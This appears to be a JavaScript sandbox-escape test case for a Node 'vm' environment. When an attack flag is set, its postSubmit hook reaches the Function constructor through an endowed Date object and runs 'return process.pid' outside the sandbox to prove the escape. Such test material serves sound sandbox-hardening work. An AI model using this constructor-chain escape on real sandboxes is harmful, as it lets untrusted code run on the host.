// Takes the constructor of the functions of Date.
// Class: endowments
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  options.responseData[0].id = 'ESCAPED:' + Date.now.constructor('return process.pid')();
  return options.responseData;
}
